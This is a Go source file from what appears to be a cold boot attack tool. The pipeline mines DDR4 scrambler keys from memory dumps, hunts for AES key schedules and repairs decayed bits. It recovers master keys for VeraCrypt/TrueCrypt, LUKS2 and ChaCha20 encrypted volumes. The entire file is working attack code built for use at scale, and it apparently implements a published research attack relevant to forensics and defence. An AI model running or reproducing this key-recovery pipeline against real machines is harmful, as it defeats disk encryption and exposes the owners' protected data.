package core

import (
	"bytes"
	"context"
	"fmt"
	"runtime"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"

	"coldboot/internal/aes"
	"coldboot/internal/bitutil"
	"coldboot/internal/format"
	"coldboot/internal/obs"
	"coldboot/internal/secret"
)

// Config tunes the full attack pipeline.
type Config struct {
	// Variant is the AES key size hunted for (default AES256, the
	// VeraCrypt/TrueCrypt case).
	Variant aes.Variant
	// Formats selects which target formats to hunt in the single
	// descramble pass: "aesxts" (the native AES-schedule hunt) plus any
	// name registered in internal/format ("luks2", "chacha20", ...). Nil
	// (the zero value) enables every known format. Unknown names fail the
	// attack up front.
	Formats []string
	// LitmusTolerance is the scrambler-key litmus bit budget.
	LitmusTolerance int
	// AESTolerance is the schedule-prediction compare bit budget.
	AESTolerance int
	// MergeDistance merges decayed key sightings (see MineOptions).
	MergeDistance int
	// MineMaxBytes bounds the mining pass (0 = whole dump). The paper
	// mined all keys from under 16 MB.
	MineMaxBytes int
	// MinVerifyScore accepts a candidate master whose full-schedule match
	// fraction reaches this value (default 0.80; correct keys score ~1.0,
	// wrong ones ~0.5).
	MinVerifyScore float64
	// Exhaustive forces trying every mined key on every block (the paper's
	// literal step 2) instead of the stride-inferred per-address-class
	// directory. Much slower; used for validation on small dumps.
	Exhaustive bool
	// RepairFlips enables window repair of decayed anchors (0 = off,
	// 1 = single-bit, 2 = double-bit).
	RepairFlips int
	// GroundDump, when non-nil (same length as the dump), enables
	// ground-state-aware repair: a second dump of the same DIMM taken
	// after full decay WITHOUT rebooting (the keystream cancels in the
	// comparison), restricting repair to bits that could physically have
	// decayed and affording a deeper (3-flip) search. See groundrepair.go.
	GroundDump []byte
	// Workers is the scan parallelism. Zero (the zero value) means one
	// worker per CPU — callers never need to set it.
	Workers int
	// KeysForBlock, when non-nil, overrides the key directory entirely
	// (used by tests and by attacks with out-of-band key knowledge).
	KeysForBlock KeyDirectory
	// Mine, when non-nil, is a precomputed mining result for this dump
	// (positions in dump-local block indices): the mine stage adopts it
	// instead of re-scanning. The campaign uses this to mine once globally
	// and share the key pool with every shard.
	Mine *MineResult
	// ScheduleCache memoizes expanded key schedules across candidate
	// verifications. Nil (the zero value) gives the attack a private
	// default-bounded cache; the campaign sets one explicitly so all shards
	// share a single cache (the same master re-sighted in the overlap
	// region expands once).
	ScheduleCache *ScheduleCache
	// Tracer observes the pipeline: per-stage wall time, candidate
	// counters, hunt progress, and per-chunk/per-verify latency
	// histograms. Nil means no tracing (obs.Nop).
	Tracer obs.Tracer
	// Span, when non-nil, parents the attack's root span under a caller
	// span (the campaign nests per-shard attacks this way; coldbootd nests
	// them under a per-job span). Nil means the attack starts its own
	// trace tree on the Tracer.
	Span obs.Span
	// skipFormatFilter leaves shard-local results untagged and unfiltered:
	// the campaign sets it so LUKS2 pair tagging and format filtering run
	// once over the MERGED key list (a schedule pair can straddle a shard
	// boundary, and dropping a lone half early would lose its twin's tag).
	skipFormatFilter bool
}

func (c Config) withDefaults() Config {
	if c.Variant == 0 {
		c.Variant = aes.AES256
	}
	if c.LitmusTolerance == 0 {
		c.LitmusTolerance = DefaultLitmusTolerance
	}
	if c.AESTolerance == 0 {
		c.AESTolerance = DefaultAESTolerance
	}
	if c.MinVerifyScore == 0 {
		c.MinVerifyScore = 0.80
	}
	if c.Workers <= 0 {
		c.Workers = runtime.NumCPU()
	}
	if c.ScheduleCache == nil {
		c.ScheduleCache = NewScheduleCache(0)
	}
	return c
}

// FoundKey is one recovered key.
type FoundKey struct {
	Master     []byte
	Variant    aes.Variant // key size for AES-schedule formats; zero otherwise
	TableStart int         // dump byte offset of the in-memory key material
	Score      float64     // verification match fraction
	Anchors    int         // number of independent anchor hits that agreed
	// Format is the registered name of the format this key belongs to
	// ("aesxts", "luks2", "chacha20", ...).
	Format string
	// Volume names the encrypted volume this key unlocks when the format
	// could tie them together (a LUKS2 header UUID); empty otherwise.
	Volume string
}

// Result is the attack's full output.
type Result struct {
	Mine          *MineResult
	Stride        int     // inferred key-reuse period in blocks (0 = none)
	Coverage      float64 // fraction of address classes with a mined key
	BlocksScanned int
	PairsTested   int64 // (block, key) combinations examined
	Keys          []FoundKey
	// Volumes are the encrypted-volume headers recognized in the dump
	// (offset order), independent of whether their keys were recovered.
	Volumes []format.Volume
}

// Stage is one named, cancellable step of the attack pipeline. Stages run
// in order over a shared AttackRun; each is timed through the run's tracer
// under its Name. Run must honour ctx: on cancellation it returns ctx.Err()
// promptly (within one scan chunk), leaving whatever partial products it
// produced in the run.
type Stage interface {
	Name() string
	Run(ctx context.Context, run *AttackRun) error
}

// AttackRun is the state threaded through the attack stages: the inputs
// (dump + config), the intermediate products each stage leaves for the
// next, and the final Result.
type AttackRun struct {
	Dump []byte
	Cfg  Config // defaults already applied
	// Mine is the mine stage's output.
	Mine *MineResult
	// Directory is the directory stage's output: candidate scrambler keys
	// per block index.
	Directory KeyDirectory
	// Res accumulates the final result; valid (possibly partial) even when
	// a stage returns early with an error.
	Res *Result

	tracer obs.Tracer
	// span is the attack's root span; stage spans nest under it. stage is
	// the span of the stage currently running (worker spans nest there).
	span  obs.Span
	stage obs.Span
	// skip is a bitset over block indices that cannot contain schedules
	// (mined-key sightings are zero-data blocks).
	skip []uint64
	// schedules memoizes candidate schedule expansions (Config.ScheduleCache
	// after defaulting).
	schedules *ScheduleCache
	// memo caches completed verify→refine outcomes per (pre-repair master,
	// table start): re-sighting an already-verified master at another anchor
	// window replays the recorded outcome instead of re-running the full
	// verification and refinement, which is where repeat anchors spent
	// nearly all their time. Only above-threshold initial verifications are
	// memoized — those flows never consult the (block-dependent) repair
	// paths, so the replay is exactly the recomputation.
	memoMu sync.RWMutex
	memo   map[string]*verifyOutcome // guarded by memoMu
	// rf is Cfg.Formats resolved against the format registry.
	rf resolvedFormats
	// found collects native AES candidates during the hunt, deduplicated
	// by master bytes; foundF collects prober findings deduplicated by
	// (format, key); volumes collects header sightings by offset. All
	// three share mu.
	mu      sync.Mutex
	found   map[string]*FoundKey  // guarded by mu
	foundF  map[string]*FoundKey  // guarded by mu
	volumes map[int]format.Volume // guarded by mu
}

// verifyOutcome is one memoized verify→refine result; outcomes for the
// same master at different table starts (duplicate schedules in memory)
// chain through next.
type verifyOutcome struct {
	start int
	final []byte
	score float64
	next  *verifyOutcome
}

// memoLookup returns the recorded outcome for (master, start), or nil.
func (run *AttackRun) memoLookup(master []byte, start int) *verifyOutcome {
	run.memoMu.RLock()
	o := run.memo[string(master)] // direct index: no key allocation
	run.memoMu.RUnlock()
	for ; o != nil; o = o.next {
		if o.start == start {
			return o
		}
	}
	return nil
}

// memoStore records a completed outcome, copying final out of scratch.
func (run *AttackRun) memoStore(master []byte, start int, final []byte, score float64) {
	o := &verifyOutcome{start: start, final: append([]byte{}, final...), score: score}
	run.memoMu.Lock()
	head := run.memo[string(master)]
	for h := head; h != nil; h = h.next {
		if h.start == start { // another worker beat us to it
			run.memoMu.Unlock()
			return
		}
	}
	o.next = head
	//lint:ignore keyflow memo needs a comparable key; the []byte finals are wiped by run.wipe
	run.memo[string(master)] = o
	run.memoMu.Unlock()
}

// wipe zeroes the run's private key-bearing state: the memoized
// verify→refine finals. The FoundKey masters in Res are separate copies
// owned by the caller and are left intact.
func (run *AttackRun) wipe() {
	run.memoMu.Lock()
	for _, o := range run.memo {
		for h := o; h != nil; h = h.next {
			secret.Wipe(h.final)
		}
	}
	clear(run.memo)
	run.memoMu.Unlock()
}

// skipBlock reports whether block b is a known zero-data block.
func (run *AttackRun) skipBlock(b int) bool {
	return run.skip[b>>6]&(1<<uint(b&63)) != 0
}

// AttackStages returns the attack pipeline in execution order:
// mine → directory → hunt → assemble.
func AttackStages() []Stage {
	return []Stage{mineStage{}, directoryStage{}, huntStage{}, assembleStage{}}
}

// Attack runs the complete DDR4 cold boot attack on a scrambled memory
// dump: mine scrambler keys, locate AES key schedules, and recover master
// keys. The dump may be single- or double-scrambled (victim-only, or victim
// XOR attacker keystream — the litmus invariants survive both) and may
// contain bit decay.
func Attack(dump []byte, cfg Config) (*Result, error) {
	return AttackContext(context.Background(), dump, cfg)
}

// AttackContext is Attack with cancellation: every long loop (the mining
// scan and each hunt worker) checks ctx at least once per scan chunk, so a
// cancelled attack stops mid-scan within one chunk of work. On
// cancellation the partial Result assembled from the work already done is
// returned together with ctx.Err().
func AttackContext(ctx context.Context, dump []byte, cfg Config) (*Result, error) {
	privateCache := cfg.ScheduleCache == nil
	cfg = cfg.withDefaults()
	if privateCache {
		// The defaulted cache is this run's alone: no caller can hold its
		// schedules, so retire the key material with the run.
		defer cfg.ScheduleCache.Wipe()
	}
	if len(dump)%BlockBytes != 0 {
		return nil, fmt.Errorf("core: dump length %d not block aligned", len(dump))
	}
	if cfg.GroundDump != nil && len(cfg.GroundDump) != len(dump) {
		return nil, fmt.Errorf("core: ground dump length %d != dump length %d", len(cfg.GroundDump), len(dump))
	}
	rf, err := resolveFormats(cfg.Formats)
	if err != nil {
		return nil, err
	}

	run := &AttackRun{
		Dump:      dump,
		Cfg:       cfg,
		Res:       &Result{BlocksScanned: len(dump) / BlockBytes},
		tracer:    obs.OrNop(cfg.Tracer),
		schedules: cfg.ScheduleCache,
		memo:      make(map[string]*verifyOutcome),
		rf:        rf,
		found:     make(map[string]*FoundKey),
		foundF:    make(map[string]*FoundKey),
		volumes:   make(map[int]format.Volume),
	}
	defer run.wipe()
	attrs := []obs.Attr{
		obs.A("blocks", strconv.Itoa(len(dump)/BlockBytes)),
		obs.A("variant", cfg.Variant.String()),
	}
	if cfg.Span != nil {
		run.span = cfg.Span.Child("attack", attrs...)
	} else {
		run.span = run.tracer.StartSpan("attack", attrs...)
	}
	defer run.span.End()
	for _, st := range AttackStages() {
		if err := ctx.Err(); err != nil {
			assembleKeys(run)
			return run.Res, err
		}
		stageSpan := run.span.Child(st.Name())
		run.stage = stageSpan
		err := st.Run(ctx, run)
		stageSpan.End()
		if err != nil {
			// Finalize whatever candidates the interrupted stage left so a
			// cancelled attack still surfaces its partial findings.
			assembleKeys(run)
			return run.Res, err
		}
	}
	run.span.SetAttr("keys", strconv.Itoa(len(run.Res.Keys)))
	return run.Res, nil
}

// mineStage recovers the scrambler key pool (paper step 1: the
// scrambler-key litmus test over every block).
type mineStage struct{}

func (mineStage) Name() string { return "mine" }

func (mineStage) Run(ctx context.Context, run *AttackRun) error {
	if pre := run.Cfg.Mine; pre != nil {
		run.Mine = pre
		run.Res.Mine = pre
		run.tracer.Count("mine.blocks_scanned", int64(pre.BlocksScanned))
		run.tracer.Count("mine.blocks_passed", int64(pre.BlocksPassed))
		run.tracer.Count("mine.keys", int64(len(pre.Keys)))
		return nil
	}
	mine, err := MineKeysContext(ctx, run.Dump, MineOptions{
		Tolerance:     run.Cfg.LitmusTolerance,
		MergeDistance: run.Cfg.MergeDistance,
		MaxBytes:      run.Cfg.MineMaxBytes,
	})
	run.Mine = mine
	run.Res.Mine = mine
	if mine != nil {
		run.tracer.Count("mine.blocks_scanned", int64(mine.BlocksScanned))
		run.tracer.Count("mine.blocks_passed", int64(mine.BlocksPassed))
		run.tracer.Count("mine.keys", int64(len(mine.Keys)))
	}
	return err
}

// directoryStage infers the key-reuse stride and builds the per-block
// candidate key directory (paper step 2's address-class table), plus the
// zero-block skip set.
type directoryStage struct{}

func (directoryStage) Name() string { return "directory" }

func (directoryStage) Run(ctx context.Context, run *AttackRun) error {
	mine := run.Mine
	run.Directory = run.Cfg.KeysForBlock
	if run.Directory == nil {
		run.Res.Stride = mine.InferStride()
		if run.Cfg.Exhaustive || run.Res.Stride == 0 {
			run.Directory = AllKeysDirectory(mine)
		} else {
			run.Res.Coverage = mine.Coverage(run.Res.Stride)
			run.Directory = ResidueDirectory(mine, run.Res.Stride)
		}
	}
	// Zero-data blocks are exactly the mined-key sightings: skip them (they
	// cannot contain schedules, and their degenerate windows waste time).
	nBlocks := len(run.Dump) / BlockBytes
	run.skip = make([]uint64, (nBlocks+63)/64)
	for _, k := range mine.Keys {
		for _, p := range k.Positions {
			if p >= 0 && p < nBlocks {
				run.skip[p>>6] |= 1 << uint(p&63)
			}
		}
	}
	return nil
}

// Decayed zero blocks can fail the exact-tolerance litmus and evade the
// mined-position skip; they are still recognizable as approximate
// keystream (litmus distance far below random's ~128 expected bits).
const zeroBlockSkipDistance = 48

// scanCancelChunkBlocks is the hunt's cancellation granularity: each worker
// polls ctx (and reports progress) every this many blocks — 16 KiB of
// dump, a sub-millisecond unit of work even on the exhaustive path.
const scanCancelChunkBlocks = 256

// huntStage is the expensive middle of the attack (paper steps 2-4):
// descramble every candidate (block, key) pair, AES-litmus the result,
// and verify/repair/refine anchors into candidate master keys.
type huntStage struct{}

func (huntStage) Name() string { return "hunt" }

func (huntStage) Run(ctx context.Context, run *AttackRun) error {
	cfg := run.Cfg
	dump := run.Dump
	nBlocks := len(dump) / BlockBytes
	nk := cfg.Variant.Nk()

	var pairs, hits, repairs, gated, repaired int64
	var done atomic.Int64
	var cancelled atomic.Bool

	var wg sync.WaitGroup
	chunk := (nBlocks + cfg.Workers - 1) / cfg.Workers
	for w := 0; w < cfg.Workers; w++ {
		lo, hi := w*chunk, (w+1)*chunk
		if hi > nBlocks {
			hi = nBlocks
		}
		if lo >= hi {
			continue
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			ws := run.stage.Child("hunt.worker",
				obs.A("blocks", strconv.Itoa(lo)+"-"+strconv.Itoa(hi)),
				obs.A("offset", "0x"+strconv.FormatInt(int64(lo)*BlockBytes, 16)+"-0x"+strconv.FormatInt(int64(hi)*BlockBytes, 16)))
			defer ws.End()
			// All per-candidate buffers live on the worker's scratch: the
			// steady-state scan allocates nothing per block or candidate.
			sc := new(huntScratch)
			defer sc.wipe()
			probers := run.rf.probers
			var view *descrambleView
			var emitFinding func(format.Finding)
			if len(probers) > 0 {
				// One view + one emit closure per worker, hoisted out of the
				// scan so the prober path stays allocation-free per block.
				view = &descrambleView{data: dump, directory: run.Directory}
				emitFinding = func(f format.Finding) { run.recordFinding(f) }
			}
			var localPairs, localHits int64
			var localRepairs, localGated, localRepaired int64
			lastCheck := lo
			chunkStart := obs.Now()
			for b := lo; b < hi; b++ {
				if b-lastCheck >= scanCancelChunkBlocks {
					n := done.Add(int64(b - lastCheck))
					lastCheck = b
					if ctx.Err() != nil {
						cancelled.Store(true)
					}
					run.tracer.Progress("hunt", n, int64(nBlocks))
					run.tracer.Observe("hunt.chunk_ns", obs.Since(chunkStart))
					chunkStart = obs.Now()
				}
				if cancelled.Load() {
					break
				}
				if run.skipBlock(b) {
					continue
				}
				stored := dump[b*BlockBytes : (b+1)*BlockBytes]
				if KeyLitmusDistance(stored) <= zeroBlockSkipDistance {
					continue // decayed zero block: approximate keystream
				}
				for _, key := range run.Directory(b) {
					localPairs++
					bitutil.XORBlock64(sc.descrambled[:], stored, key)
					// Every enabled format probes the same descrambled block:
					// one descramble, N hunts.
					for _, p := range probers {
						view.curBlock = b
						view.curDescrambled = sc.descrambled[:]
						p.ProbeBlock(sc.descrambled[:], b*BlockBytes, view, cfg.AESTolerance, emitFinding)
					}
					if !run.rf.aes {
						continue
					}
					words := aes.BytesToWordsInto(sc.words[:0], sc.descrambled[:])
					sc.hits = aesLitmusWords(words, cfg.Variant, cfg.AESTolerance, sc.hits[:0])
					localHits += int64(len(sc.hits))
					// A flip search costs a few hundred full-schedule
					// verifications, so it runs only behind the syndrome gate
					// (syndrome.go): the observed table at the hit's start must
					// break fewer expansion checks than any misaligned table
					// does. The quadratic double-flip and cubic ground-state
					// searches are also rationed per (block, key) pair; a
					// gated-off hit still spends its ration, so the gate only
					// removes searches and never reorders them.
					doubleRepairsLeft := 4
					groundRepairsLeft := 4
					for _, hit := range sc.hits {
						if windowDegenerateWords(words, hit, nk) {
							continue
						}
						start := hit.TableStart(b)
						if start < 0 || start+cfg.Variant.ScheduleBytes() > len(dump) {
							continue
						}
						master := aes.RecoverMasterKeyInto(sc.master[:0],
							words[hit.WordOffset:hit.WordOffset+nk], hit.ScheduleIndex, cfg.Variant)
						if o := run.memoLookup(master, start); o != nil {
							// Re-sighted anchor of an already-completed
							// verification: replay the recorded outcome.
							run.record(o.final, o.start, o.score, cfg.Variant)
							continue
						}
						verifyStart := obs.Now()
						// Almost every candidate master is garbage derived from
						// application data and will never be sighted again, so
						// the miss path expands into scratch (no allocation, no
						// cache churn); verified masters are promoted below.
						sched, cached := run.schedules.Lookup(master)
						if !cached {
							sched = aes.ExpandKeyBytesInto(sc.repair.sched[:0], master)
						}
						score := scheduleScore(dump, run.Directory, sched, start)
						run.tracer.Observe("hunt.verify_ns", obs.Since(verifyStart))
						initialVerified := score >= cfg.MinVerifyScore
						if initialVerified && !cached {
							run.schedules.Insert(master, sched)
						}
						flips, ground := 0, false
						if score < cfg.MinVerifyScore && cfg.GroundDump != nil && groundRepairsLeft > 0 {
							groundRepairsLeft--
							ground = true
						} else if score < cfg.MinVerifyScore && cfg.RepairFlips > 0 {
							flips = 1
							if cfg.RepairFlips >= 2 && doubleRepairsLeft > 0 {
								doubleRepairsLeft--
								flips = cfg.RepairFlips
							}
						}
						if ground || flips > 0 {
							if !repairGateScratch(&sc.repair, dump, run.Directory, sched, start, cfg.Variant) {
								localGated++
							} else {
								localRepairs++
								repairStart := obs.Now()
								if ground {
									master, score = repairWindowGroundScratch(&sc.repair, dump, cfg.GroundDump,
										run.Directory, sc.descrambled[:], b, hit, cfg.Variant, 3, cfg.MinVerifyScore)
								} else {
									master, score = repairWindowScratch(&sc.repair, dump, run.Directory,
										sc.descrambled[:], b, hit, cfg.Variant, flips, cfg.MinVerifyScore)
								}
								run.tracer.Observe("hunt.repair_ns", obs.Since(repairStart))
								if score >= cfg.MinVerifyScore {
									localRepaired++
								}
							}
						}
						if score >= cfg.MinVerifyScore {
							// Correct residual linear-chain bit errors via
							// schedule-redundancy majority voting before
							// accepting the key. The refined master aliases
							// scratch; record and memoStore copy it out.
							final, finalScore := refineMasterScratch(&sc.repair, dump, run.Directory,
								master, start, cfg.Variant)
							if initialVerified {
								// master was untouched by the repair paths
								// (sc.master, disjoint from sc.repair): safe to
								// memoize the deterministic verify→refine flow.
								run.memoStore(master, start, final, finalScore)
							}
							run.record(final, start, finalScore, cfg.Variant)
						}
					}
				}
			}
			run.mu.Lock()
			pairs += localPairs
			hits += localHits
			repairs += localRepairs
			gated += localGated
			repaired += localRepaired
			run.mu.Unlock()
		}(lo, hi)
	}
	wg.Wait()
	run.Res.PairsTested = pairs
	run.tracer.Count("hunt.pairs_tested", pairs)
	run.tracer.Count("hunt.schedule_hits", hits)
	run.tracer.Count("hunt.repair_attempts", repairs)
	run.tracer.Count("hunt.repair_gated", gated)
	run.tracer.Count("hunt.repair_verified", repaired)
	run.mu.Lock()
	candidates := int64(len(run.found))
	run.mu.Unlock()
	run.tracer.Count("hunt.candidates", candidates)
	run.tracer.Progress("hunt", done.Load(), int64(nBlocks))
	if cancelled.Load() {
		return ctx.Err()
	}
	return nil
}

// record registers a candidate master sighted at start with the given
// verification score, merging repeat sightings into anchor counts.
func (run *AttackRun) record(master []byte, start int, score float64, v aes.Variant) {
	run.mu.Lock()
	defer run.mu.Unlock()
	//lint:ignore keyflow found-map keys back the FoundKey results handed to the caller
	k := string(master)
	if f, ok := run.found[k]; ok {
		f.Anchors++
		if score > f.Score {
			f.Score = score
			f.TableStart = start
		}
		return
	}
	run.found[k] = &FoundKey{
		Master:     append([]byte{}, master...),
		Variant:    v,
		TableStart: start,
		Score:      score,
		Anchors:    1,
	}
}

// assembleStage ranks the hunt's candidates and suppresses shift-family
// aliases into the final key list.
type assembleStage struct{}

func (assembleStage) Name() string { return "assemble" }

func (assembleStage) Run(ctx context.Context, run *AttackRun) error {
	assembleKeys(run)
	run.tracer.Count("assemble.keys", int64(len(run.Res.Keys)))
	if !run.Cfg.skipFormatFilter {
		emitFormatCounts(run.tracer, run.rf, run.Res)
	}
	return nil
}

// assembleKeys sorts the candidate keys best-first and greedily suppresses
// shift-family aliases: a window anchored at the wrong schedule index (off
// by a multiple of the Nk period) yields a "master" whose expansion is the
// true schedule shifted a few words — it still verifies at ~0.9 because
// most of its range overlaps the real table. The best-scoring candidate
// per overlapping region is kept; the true master always scores strictly
// higher than its shifts. Alias suppression is per format (a ChaCha state
// inside an AES schedule's shadow is not an alias of it), after which the
// LUKS2 pair rule re-tags adjacent schedule pairs — adjacency is distance
// == schedBytes, i.e. ZERO overlap, so pairs always survive suppression —
// and keys of formats the attack was not asked for are dropped.
func assembleKeys(run *AttackRun) {
	// All stages have finished (or been cancelled) by assembly time, but
	// taking mu keeps the guarded-field contract checkable.
	run.mu.Lock()
	defer run.mu.Unlock()
	candidates := make([]FoundKey, 0, len(run.found)+len(run.foundF))
	for _, f := range run.found {
		c := *f
		c.Format = FormatAESXTS
		candidates = append(candidates, c)
	}
	for _, f := range run.foundF {
		candidates = append(candidates, *f)
	}
	sortFoundKeys(candidates)
	schedBytes := run.Cfg.Variant.ScheduleBytes()
	run.Res.Keys = suppressAliases(candidates, schedBytes)
	run.Res.Volumes = sortedVolumes(run.volumes)
	if !run.Cfg.skipFormatFilter {
		// Shard attacks leave keys untagged/unfiltered: a pair straddling a
		// shard boundary (or a header sighted in another shard) can only be
		// resolved after the campaign merge.
		if run.rf.luks2 {
			tagLUKS2(run.Res.Keys, run.Res.Volumes, schedBytes)
		}
		run.Res.Keys = filterFormats(run.Res.Keys, run.rf)
	}
}

// sortFoundKeys orders candidates best-first with a full deterministic
// tie-break (score desc, then table start, master bytes, format).
func sortFoundKeys(keys []FoundKey) {
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].Score != keys[j].Score {
			return keys[i].Score > keys[j].Score
		}
		if keys[i].TableStart != keys[j].TableStart {
			return keys[i].TableStart < keys[j].TableStart
		}
		if c := bytes.Compare(keys[i].Master, keys[j].Master); c != 0 {
			return c < 0
		}
		return keys[i].Format < keys[j].Format
	})
}

// suppressAliases greedily keeps the best-scoring candidate per
// overlapping same-format region. candidates must already be sorted
// best-first.
func suppressAliases(candidates []FoundKey, schedBytes int) []FoundKey {
	var out []FoundKey
	for _, c := range candidates {
		w := formatWidth(c.Format, schedBytes)
		alias := false
		for _, kept := range out {
			if kept.Format != c.Format {
				continue
			}
			lo, hi := c.TableStart, c.TableStart+w
			if kept.TableStart > lo {
				lo = kept.TableStart
			}
			if kept.TableStart+w < hi {
				hi = kept.TableStart + w
			}
			if hi-lo >= w/2 {
				alias = true
				break
			}
		}
		if !alias {
			out = append(out, c)
		}
	}
	return out
}

// Masters returns just the recovered master keys, best first.
func (r *Result) Masters() [][]byte {
	out := make([][]byte, len(r.Keys))
	for i, k := range r.Keys {
		out[i] = k.Master
	}
	return out
}
